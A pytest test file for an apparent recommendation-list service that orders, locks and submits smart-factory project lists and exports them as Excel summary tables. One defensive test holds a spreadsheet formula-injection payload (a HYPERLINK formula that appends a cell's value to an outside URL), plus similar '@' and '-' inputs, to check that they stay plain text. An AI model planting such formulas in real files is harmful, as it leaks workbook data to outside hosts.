"""Ordering, locking and submitting a recommending unit's list: the 推荐汇总表 workbook (opened
and read back), the cases recommended or recognised with their events, the deadline, 先进级
lists without a quota, and central-SOE units. Every guard of the list machine has a test."""

from __future__ import annotations

import asyncio
import hashlib
import io
import itertools
import json
import uuid
from datetime import datetime, timedelta, timezone

import asyncpg
import pytest
from openpyxl import load_workbook

from ladder.kit.clock import FrozenClock
from ladder.review.recommendations.machine import DIAGRAM_PATH, diagram_markdown

BJ = timezone(timedelta(hours=8))
BASE = "/v1/recommendation-lists/2025"
GROUP = "91110000100000007A"
SCENES = [
    {"segment": "生产作业", "scene": "人机协同作业", "instance": "发动机壳体柔性加工", "ai": True},
    {"segment": "质量管控", "scene": "在线智能检测", "instance": "视觉检测", "ai": False},
]


def _details(i: int, modes: list[str] | None = None) -> dict:
    return {
        "scenes": SCENES,
        "kpis": {},
        "integrators": [],
        "future_modes": modes or [],
        "contact": {"name": f"联系人{i}", "mobile": f"1380000000{i}"},
    }


def _h(issuer, role="province", region="440000", **extra) -> dict[str, str]:
    if role == "central_soe_hq":
        return {**issuer.headers(role, org=GROUP, name="示范中央企业集团"), **extra}
    return {**issuer.headers(role, region=region, name="广东省工业和信息化厅"), **extra}


@pytest.fixture
def quota() -> dict:
    return {"limit": 5}


@pytest.fixture
def clock(rec) -> FrozenClock:
    c = FrozenClock(datetime(2025, 7, 25, 10, tzinfo=BJ))
    rec.app.state.clock = c
    return c


async def _listed(rec, issuer, ready, n=3, *, tier="excellence", unit="440000", role="province"):
    url = f"{BASE}/{tier}/{unit}"
    region = "440106" if unit.isdigit() else "110101"
    ids = []
    for i in range(n):
        ids += await ready(
            1,
            unit=unit,
            region=region,
            tier=tier,
            details=_details(i, ["研发模式创新-创成式设计"] if tier == "pilot" else None),
            enterprise_name=f"示例企业{i}",
        )
    assert (await rec.put(url, headers=_h(issuer, role))).status_code == 201
    for did in ids:
        resp = await rec.post(
            f"{url}/entries",
            json={"declaration_id": did},
            headers=_h(issuer, role, **{"Idempotency-Key": uuid.uuid4().hex}),
        )
        assert resp.status_code == 201, resp.text
    return url, ids


async def _read(rec, issuer, url, role="province") -> dict:
    resp = await rec.get(url, headers=_h(issuer, role))
    assert resp.status_code == 200, resp.text
    return resp.json()


async def _post(rec, issuer, url, action, role="province", *, if_match=None, key=True):
    etag = if_match or (await _read(rec, issuer, url, role))["etag"]
    extra = {"If-Match": etag}
    if key:
        extra["Idempotency-Key"] = uuid.uuid4().hex if key is True else key
    return await rec.post(f"{url}/{action}", headers=_h(issuer, role, **extra))


async def _rows(db: str, sql: str, *args):
    conn = await asyncpg.connect(db.replace("postgresql+asyncpg://", "postgresql://"))
    try:
        return await conn.fetch(sql, *args)
    finally:
        await conn.close()


async def _statuses(clean_db, ids) -> list[str]:
    rows = await _rows(
        clean_db,
        "SELECT declaration_id::text AS d, status FROM review.review_case",
    )
    by_id = {r["d"]: r["status"] for r in rows}
    return [by_id[d] for d in ids]


def test_the_list_machine_diagram_is_current():
    assert DIAGRAM_PATH.read_text(encoding="utf-8") == diagram_markdown(), (
        "run `python -m ladder.review.recommendations.machine`"
    )


# --- order ----------------------------------------------------------------------------------


async def test_reorder_sets_the_priority(rec, issuer, ready):
    url, ids = await _listed(rec, issuer, ready)
    etag = (await _read(rec, issuer, url))["etag"]
    new = [ids[2], ids[0], ids[1]]
    resp = await rec.put(
        f"{url}/order", json={"declaration_ids": new}, headers=_h(issuer, **{"If-Match": etag})
    )
    assert resp.status_code == 200, resp.text
    assert [e["declaration_id"] for e in resp.json()["entries"]] == new
    assert [e["rank"] for e in resp.json()["entries"]] == [1, 2, 3]
    assert resp.json()["history"][-1]["action"] == "reordered"
    stale = await rec.put(
        f"{url}/order", json={"declaration_ids": ids}, headers=_h(issuer, **{"If-Match": etag})
    )
    assert stale.status_code == 412


async def test_concurrent_reorders_with_one_if_match_keep_exactly_one(rec, issuer, ready):
    """6 reorders racing with one If-Match (each a different order): 1 × 200, 5 × 412, and the
    stored order is the winner's (issue 12)."""
    url, ids = await _listed(rec, issuer, ready)
    etag = (await _read(rec, issuer, url))["etag"]
    orders = list(itertools.permutations(ids))
    answers = await asyncio.gather(
        *(
            rec.put(
                f"{url}/order",
                json={"declaration_ids": list(order)},
                headers=_h(issuer, **{"If-Match": etag}),
            )
            for order in orders
        )
    )
    statuses = sorted(a.status_code for a in answers)
    assert statuses == [200] + [412] * (len(orders) - 1), [a.text for a in answers]
    (winner,) = [a for a in answers if a.status_code == 200]
    stored = await _read(rec, issuer, url)
    assert stored["etag"] == winner.json()["etag"]
    assert [e["declaration_id"] for e in stored["entries"]] == [
        e["declaration_id"] for e in winner.json()["entries"]
    ]


@pytest.mark.parametrize("case", ["missing", "repeated", "unknown"])
async def test_an_order_must_name_every_case_once(rec, issuer, ready, case):
    url, ids = await _listed(rec, issuer, ready)
    before = await _read(rec, issuer, url)
    order = {
        "missing": ids[:2],
        "repeated": [ids[0], ids[0], ids[1], ids[2]],
        "unknown": [*ids, str(uuid.uuid4())],
    }[case]
    resp = await rec.put(
        f"{url}/order",
        json={"declaration_ids": order},
        headers=_h(issuer, **{"If-Match": before["etag"]}),
    )
    assert resp.status_code == 422
    assert resp.json()["error"]["code"] == "order_mismatch"
    assert resp.json()["error"]["details"][case]
    assert (await _read(rec, issuer, url))["etag"] == before["etag"]


async def test_a_locked_list_cannot_be_reordered(rec, issuer, ready):
    url, ids = await _listed(rec, issuer, ready)
    assert (await _post(rec, issuer, url, "lock", key=False)).status_code == 200
    etag = (await _read(rec, issuer, url))["etag"]
    resp = await rec.put(
        f"{url}/order",
        json={"declaration_ids": ids[::-1]},
        headers=_h(issuer, **{"If-Match": etag}),
    )
    assert resp.status_code == 409 and resp.json()["error"]["code"] == "list_locked"


# --- submission -----------------------------------------------------------------------------


async def test_submitting_recommends_every_case_and_freezes_the_table(
    rec, issuer, ready, clean_db, clock
):
    url, ids = await _listed(rec, issuer, ready)
    assert (await _post(rec, issuer, url, "lock", key=False)).status_code == 200
    key = uuid.uuid4().hex
    resp = await _post(rec, issuer, url, "submit", key=key)
    assert resp.status_code == 200, resp.text
    body = resp.json()
    assert body["status"] == "submitted"
    assert body["submission"]["entries"] == 3
    assert body["submission"]["reported_to"] == ["工业和信息化部（装备工业一司）"]
    assert await _statuses(clean_db, ids) == ["recommended"] * 3

    # A retry with the same key answers the same; a new submission is refused.
    again = await _post(rec, issuer, url, "submit", if_match=body["etag"], key=key)
    assert again.status_code == 200 and again.json()["etag"] == body["etag"]
    refused = await _post(rec, issuer, url, "submit", if_match=body["etag"])
    assert refused.status_code == 409 and refused.json()["error"]["code"] == "list_submitted"
    for action in ("unlock", "lock"):
        r = await _post(rec, issuer, url, action, if_match=body["etag"], key=False)
        assert r.status_code == 409 and r.json()["error"]["code"] == "list_submitted"

    # The workbook, opened: 附件3's title and columns, rows in rank order.
    xlsx = await rec.get(f"{url}/summary-table.xlsx", headers=_h(issuer))
    assert xlsx.status_code == 200
    assert xlsx.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert hashlib.sha256(xlsx.content).hexdigest() == body["submission"]["sha256"]
    ws = load_workbook(io.BytesIO(xlsx.content)).active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][0] == "卓越级智能工厂项目推荐汇总表"
    assert rows[1][0] == "推荐单位（盖章）：广东省工业和信息化厅"
    assert list(rows[2]) == [
        "序号",
        "申报单位名称",
        "卓越级智能工厂项目名称",
        "涉及典型场景实例（罗列）",
        "联系人",
        "联系方式（手机号）",
    ]
    assert [r[0] for r in rows[3:]] == [1, 2, 3]
    assert [r[1] for r in rows[3:]] == ["示例企业0", "示例企业1", "示例企业2"]
    assert (
        rows[3][3] == "1.生产作业—人机协同作业—发动机壳体柔性加工\n2.质量管控—在线智能检测—视觉检测"
    )
    assert (rows[3][4], rows[3][5]) == ("联系人0", "13800000000")

    # The history of each case and the events: status to the declaration service, the list.
    history = await _rows(
        clean_db,
        "SELECT t.event, t.from_status, t.to_status FROM review.case_transition t "
        "JOIN review.review_case c ON c.id = t.case_id WHERE c.declaration_id = $1::uuid",
        uuid.UUID(ids[0]),
    )
    assert [(h["event"], h["from_status"], h["to_status"]) for h in history] == [
        ("recommended", "awaiting_recommendation", "recommended")
    ]
    events = await _rows(clean_db, "SELECT topic, payload FROM review.outbox ORDER BY id")
    status = [json.loads(e["payload"]) for e in events if e["topic"] == "review.status_changed"]
    assert sorted(p["declaration_id"] for p in status) == sorted(ids)
    assert {p["status"] for p in status} == {"recommended"}
    listed = [json.loads(e["payload"]) for e in events if e["topic"] == "review.list_submitted"]
    assert listed[0]["declaration_ids"] == ids


async def test_the_draft_table_says_it_is_a_draft(rec, issuer, ready):
    url, _ = await _listed(rec, issuer, ready, 1)
    xlsx = await rec.get(f"{url}/summary-table.xlsx", headers=_h(issuer))
    assert xlsx.status_code == 200
    ws = load_workbook(io.BytesIO(xlsx.content)).active
    assert "草稿" in ws["A1"].value
    assert xlsx.headers["cache-control"] == "no-store"


async def test_a_pilot_table_lists_the_future_modes(rec, issuer, ready, clock):
    url, _ = await _listed(rec, issuer, ready, 1, tier="pilot")
    assert (await _post(rec, issuer, url, "lock", key=False)).status_code == 200
    assert (await _post(rec, issuer, url, "submit")).status_code == 200
    xlsx = await rec.get(f"{url}/summary-table.xlsx", headers=_h(issuer))
    rows = list(load_workbook(io.BytesIO(xlsx.content)).active.iter_rows(values_only=True))
    assert rows[0][0] == "领航级智能工厂项目推荐汇总表"
    assert rows[2][4] == "重点探索的未来制造模式清单"
    assert rows[3][4] == "1.研发模式创新-创成式设计"


async def test_an_open_list_must_be_locked_first(rec, issuer, ready, clean_db, clock):
    url, ids = await _listed(rec, issuer, ready, 1)
    resp = await _post(rec, issuer, url, "submit")
    assert resp.status_code == 409 and resp.json()["error"]["code"] == "list_not_locked"
    assert await _statuses(clean_db, ids) == ["awaiting_recommendation"]


async def test_an_empty_list_is_not_submitted(rec, issuer, clock):
    url = f"{BASE}/excellence/440000"
    assert (await rec.put(url, headers=_h(issuer))).status_code == 201
    assert (await _post(rec, issuer, url, "lock", key=False)).status_code == 200
    resp = await _post(rec, issuer, url, "submit")
    assert resp.status_code == 409 and resp.json()["error"]["code"] == "list_empty"
    assert (await _read(rec, issuer, url))["status"] == "locked"


@pytest.fixture
def deadline_chains():
    closes = datetime(2025, 8, 2, tzinfo=BJ).isoformat()
    return {
        "": [
            {
                "level": "national",
                "closes_at": closes,
                "last_day": "2025-08-01",
                "source": "工信厅联通装函〔2025〕251号",
                "clause": "二(二)3",
            }
        ]
    }


async def test_submission_after_the_deadline_changes_nothing(rec, issuer, ready, clean_db, clock):
    url, ids = await _listed(rec, issuer, ready, 2)
    assert (await _post(rec, issuer, url, "lock", key=False)).status_code == 200
    before = await _read(rec, issuer, url)
    clock.set(datetime(2025, 8, 2, tzinfo=BJ))
    resp = await _post(rec, issuer, url, "submit")
    assert resp.status_code == 409, resp.text
    assert resp.json()["error"]["code"] == "deadline_passed"
    assert resp.json()["error"]["details"]["last_day"] == "2025-08-01"
    after = await _read(rec, issuer, url)
    assert (after["status"], after["etag"], after["submission"]) == ("locked", before["etag"], None)
    assert await _statuses(clean_db, ids) == ["awaiting_recommendation"] * 2
    assert not await _rows(clean_db, "SELECT 1 FROM review.outbox")
    clock.set(datetime(2025, 8, 2, tzinfo=BJ) - timedelta(microseconds=1))
    assert (await _post(rec, issuer, url, "submit")).status_code == 200


async def test_an_advanced_list_is_held_to_no_date_of_251(rec, issuer, ready, clean_db, clock):
    """251号 一(二) gives 先进级 no date: after 卓越级's 8月1日 an advanced list still submits."""
    url, ids = await _listed(rec, issuer, ready, 2, tier="advanced")
    assert (await _post(rec, issuer, url, "lock", key=False)).status_code == 200
    clock.set(datetime(2025, 8, 2, tzinfo=BJ))
    resp = await _post(rec, issuer, url, "submit")
    assert resp.status_code == 200, resp.text
    assert await _statuses(clean_db, ids) == ["recognised"] * 2


async def test_an_advanced_list_is_held_to_its_provinces_calendar(
    rec, issuer, ready, clock, deadline_chains
):
    deadline_chains["advanced:44"] = [
        {
            "level": "national",
            "closes_at": datetime(2025, 9, 1, tzinfo=BJ).isoformat(),
            "last_day": "2025-08-31",
            "source": "广东省先进级智能工厂认定通知（测试）",
            "clause": "四",
        }
    ]
    url, _ = await _listed(rec, issuer, ready, 1, tier="advanced")
    assert (await _post(rec, issuer, url, "lock", key=False)).status_code == 200
    clock.set(datetime(2025, 9, 1, tzinfo=BJ))
    resp = await _post(rec, issuer, url, "submit")
    assert resp.status_code == 409, resp.text
    assert resp.json()["error"]["details"]["source"] == "广东省先进级智能工厂认定通知（测试）"


async def test_a_case_that_left_awaiting_blocks_the_submission(rec, issuer, ready, clean_db, clock):
    url, ids = await _listed(rec, issuer, ready, 2)
    assert (await _post(rec, issuer, url, "lock", key=False)).status_code == 200
    await _rows(
        clean_db,
        "UPDATE review.review_case SET status = 'awaiting_initial_review' "
        "WHERE declaration_id = $1::uuid",
        uuid.UUID(ids[1]),
    )
    resp = await _post(rec, issuer, url, "submit")
    assert resp.status_code == 409
    assert resp.json()["error"]["code"] == "entries_not_awaiting_recommendation"
    assert resp.json()["error"]["details"]["declaration_ids"] == [ids[1]]
    assert await _statuses(clean_db, ids[:1]) == ["awaiting_recommendation"]


async def test_an_advanced_list_has_no_quota_and_recognises(
    rec, issuer, ready, quota, clean_db, clock
):
    """先进级: the province recognises (251号 一(二)); no quota is asked of the rules service."""
    url, ids = await _listed(rec, issuer, ready, 3, tier="advanced")
    body = await _read(rec, issuer, url)
    assert (body["limit"], body["remaining"], body["counted"]) == (None, None, 0)
    assert quota.get("calls", 0) == 0
    assert (await _post(rec, issuer, url, "lock", key=False)).status_code == 200
    assert (await _post(rec, issuer, url, "submit")).status_code == 200
    assert await _statuses(clean_db, ids) == ["recognised"] * 3
    xlsx = await rec.get(f"{url}/summary-table.xlsx", headers=_h(issuer))
    rows = list(load_workbook(io.BytesIO(xlsx.content)).active.iter_rows(values_only=True))
    assert rows[0][0] == "先进级智能工厂名单"


async def test_a_group_hq_keeps_its_own_list(rec, issuer, ready, clock):
    unit = f"soe:{GROUP}"
    url, _ = await _listed(rec, issuer, ready, 2, unit=unit, role="central_soe_hq")
    assert (await _read(rec, issuer, url, "central_soe_hq"))["unit"] == unit
    assert (await _post(rec, issuer, url, "lock", "central_soe_hq", key=False)).status_code == 200
    submitted = await _post(rec, issuer, url, "submit", "central_soe_hq")
    assert submitted.status_code == 200, submitted.text
    # 251号 二(二)3: 有关中央企业同步报送国务院国资委（科技创新局）.
    assert submitted.json()["submission"]["reported_to"] == [
        "工业和信息化部（装备工业一司）",
        "国务院国资委（科技创新局）",
    ]
    # A province, or another group, sees no such list.
    assert (await rec.get(url, headers=_h(issuer))).status_code == 404
    other = issuer.headers("central_soe_hq", org="91110000100000008B")
    assert (await rec.get(url, headers=other)).status_code == 404
    assert (await rec.put(url, headers=other)).status_code == 404


async def test_a_province_cannot_list_a_group_hqs_case(rec, issuer, ready):
    (did,) = await ready(1, unit=f"soe:{GROUP}", region="440106")
    url = f"{BASE}/excellence/440000"
    assert (await rec.put(url, headers=_h(issuer))).status_code == 201
    resp = await rec.post(
        f"{url}/entries",
        json={"declaration_id": did},
        headers=_h(issuer, **{"Idempotency-Key": uuid.uuid4().hex}),
    )
    assert resp.status_code == 404


@pytest.mark.parametrize("role", ["county", "city", "ministry", "enterprise", "expert"])
async def test_only_the_unit_submits(rec, issuer, ready, role, clock):
    url, _ = await _listed(rec, issuer, ready, 1)
    assert (await _post(rec, issuer, url, "lock", key=False)).status_code == 200
    etag = (await _read(rec, issuer, url))["etag"]
    headers = {
        **issuer.headers(role, region="440106"),
        "If-Match": etag,
        "Idempotency-Key": uuid.uuid4().hex,
    }
    resp = await rec.post(f"{url}/submit", headers=headers)
    # A county token may keep a table of its own district (where its level ranks): another
    # unit's list is not found for it, as for any other unit.
    assert resp.status_code == (404 if role == "county" else 403)
    assert (await _read(rec, issuer, url))["status"] == "locked"


async def test_submission_needs_if_match_and_a_key(rec, issuer, ready, clock):
    url, _ = await _listed(rec, issuer, ready, 1)
    assert (await _post(rec, issuer, url, "lock", key=False)).status_code == 200
    etag = (await _read(rec, issuer, url))["etag"]
    no_key = await rec.post(f"{url}/submit", headers=_h(issuer, **{"If-Match": etag}))
    assert no_key.status_code == 428
    no_match = await rec.post(
        f"{url}/submit", headers=_h(issuer, **{"Idempotency-Key": uuid.uuid4().hex})
    )
    assert no_match.status_code == 428
    assert (await _read(rec, issuer, url))["status"] == "locked"


async def test_every_list_transition_is_in_its_history(rec, issuer, ready, clock):
    url, _ = await _listed(rec, issuer, ready, 1)
    assert (await _post(rec, issuer, url, "lock", key=False)).status_code == 200
    assert (await _post(rec, issuer, url, "unlock", key=False)).status_code == 200
    assert (await _post(rec, issuer, url, "lock", key=False)).status_code == 200
    body = (await _post(rec, issuer, url, "submit")).json()
    moves = [(h["action"], h["from_status"], h["to_status"]) for h in body["history"]]
    assert moves == [
        ("created", None, "open"),
        ("added", "open", "open"),
        ("locked", "open", "locked"),
        ("unlocked", "locked", "open"),
        ("locked", "open", "locked"),
        ("submitted", "locked", "submitted"),
    ]
    assert body["history"][-1]["reason"].startswith("to the ministry: 1 entries")
    assert all(h["actor"] and h["at"] for h in body["history"])


# --- the ministry receives the submitted lists ---------------------------------------------


async def test_the_ministry_reads_what_was_submitted_and_nothing_before(rec, issuer, ready, clock):
    url, _ = await _listed(rec, issuer, ready, 2)
    ministry = issuer.headers("ministry")
    assert (await rec.get(url, headers=ministry)).status_code == 404  # a draft is the unit's
    assert (await rec.get(f"{url}/summary-table.xlsx", headers=ministry)).status_code == 404
    index = await rec.get("/v1/recommendation-lists", headers=ministry)
    assert index.json()["total"] == 0

    assert (await _post(rec, issuer, url, "lock", key=False)).status_code == 200
    submitted = (await _post(rec, issuer, url, "submit")).json()
    read = await rec.get(url, headers=ministry)
    assert read.status_code == 200 and read.json()["status"] == "submitted"
    xlsx = await rec.get(f"{url}/summary-table.xlsx", headers=ministry)
    assert hashlib.sha256(xlsx.content).hexdigest() == submitted["submission"]["sha256"]
    (line,) = (await rec.get("/v1/recommendation-lists?campaign=2025", headers=ministry)).json()[
        "items"
    ]
    assert (line["unit"], line["tier"], line["entries"], line["sha256"]) == (
        "440000",
        "excellence",
        2,
        submitted["submission"]["sha256"],
    )
    # Reading is all the ministry does with a list.
    for action in ("lock", "unlock", "submit"):
        resp = await rec.post(
            f"{url}/{action}",
            headers={**ministry, "If-Match": read.json()["etag"], "Idempotency-Key": "k" * 10},
        )
        assert resp.status_code == 403


async def test_a_unit_indexes_only_its_own_lists(rec, issuer, ready):
    await _listed(rec, issuer, ready, 1)
    await _listed(rec, issuer, ready, 1, unit=f"soe:{GROUP}", role="central_soe_hq")
    mine = await rec.get("/v1/recommendation-lists", headers=_h(issuer))
    assert [i["unit"] for i in mine.json()["items"]] == ["440000"]
    group = await rec.get(
        "/v1/recommendation-lists?status=open", headers=_h(issuer, "central_soe_hq")
    )
    assert [i["unit"] for i in group.json()["items"]] == [f"soe:{GROUP}"]
    other = issuer.headers("province", region="350000")
    assert (await rec.get("/v1/recommendation-lists", headers=other)).json()["total"] == 0
    county = issuer.headers("county", region="440106")
    assert (await rec.get("/v1/recommendation-lists", headers=county)).json()["total"] == 0
    city = issuer.headers("city", region="440100")
    assert (await rec.get("/v1/recommendation-lists", headers=city)).status_code == 403


FORMULA = '=HYPERLINK("http://x/?"&A1,"点击查看")'


async def test_what_enterprises_typed_is_text_in_the_table_never_a_formula(
    rec, issuer, ready, clock
):
    """Found by trying to break it: an enterprise named `=HYPERLINK(…)` became a formula in
    the draft and in the frozen table the ministry opens."""
    url = f"{BASE}/excellence/440000"
    details = {**_details(0), "contact": {"name": "@SUM(1+1)", "mobile": "13800000000"},
               "scenes": [{**SCENES[0], "instance": "-2+3"}]}  # fmt: skip
    (did,) = await ready(1, unit="440000", region="440106", details=details,
                         enterprise_name=FORMULA)  # fmt: skip
    assert (await rec.put(url, headers=_h(issuer))).status_code == 201
    added = await rec.post(
        f"{url}/entries", json={"declaration_id": did},
        headers=_h(issuer, **{"Idempotency-Key": uuid.uuid4().hex}),
    )  # fmt: skip
    assert added.status_code == 201, added.text

    def cells(content: bytes):
        ws = load_workbook(io.BytesIO(content)).active
        return {c.coordinate: c for row in ws.iter_rows(min_row=4) for c in row}

    draft = cells((await rec.get(f"{url}/summary-table.xlsx", headers=_h(issuer))).content)
    assert (await _post(rec, issuer, url, "lock", key=False)).status_code == 200
    assert (await _post(rec, issuer, url, "submit")).status_code == 200
    frozen = cells((await rec.get(f"{url}/summary-table.xlsx", headers=_h(issuer))).content)
    for table in (draft, frozen):
        assert all(c.data_type != "f" for c in table.values())
        assert table["B4"].value == FORMULA and table["B4"].data_type == "s"
        assert table["E4"].value == "@SUM(1+1)" and table["E4"].data_type == "s"
        assert table["D4"].value.startswith("1.生产作业—人机协同作业—-2+3")


async def test_concurrent_submissions_with_one_if_match_keep_exactly_one(
    rec, issuer, ready, clean_db, clock
):
    """8 submissions of one locked list racing with one If-Match (each with its own
    Idempotency-Key): 1 × 200, 7 × 412; each case is recommended once, one
    `review.list_submitted`, and the stored list is the winner's (issue 12)."""
    url, ids = await _listed(rec, issuer, ready)
    assert (await _post(rec, issuer, url, "lock", key=False)).status_code == 200
    etag = (await _read(rec, issuer, url))["etag"]
    answers = await asyncio.gather(
        *(_post(rec, issuer, url, "submit", if_match=etag) for _ in range(8))
    )
    statuses = sorted(a.status_code for a in answers)
    assert statuses == [200] + [412] * 7, [a.text for a in answers]
    (winner,) = [a for a in answers if a.status_code == 200]
    stored = await _read(rec, issuer, url)
    assert stored == winner.json() and stored["status"] == "submitted"
    assert await _statuses(clean_db, ids) == ["recommended"] * 3
    moves = await _rows(
        clean_db, "SELECT count(*) AS n FROM review.case_transition WHERE event = 'recommended'"
    )
    assert moves[0]["n"] == 3
    told = await _rows(
        clean_db, "SELECT count(*) AS n FROM review.outbox WHERE topic = 'review.list_submitted'"
    )
    assert told[0]["n"] == 1
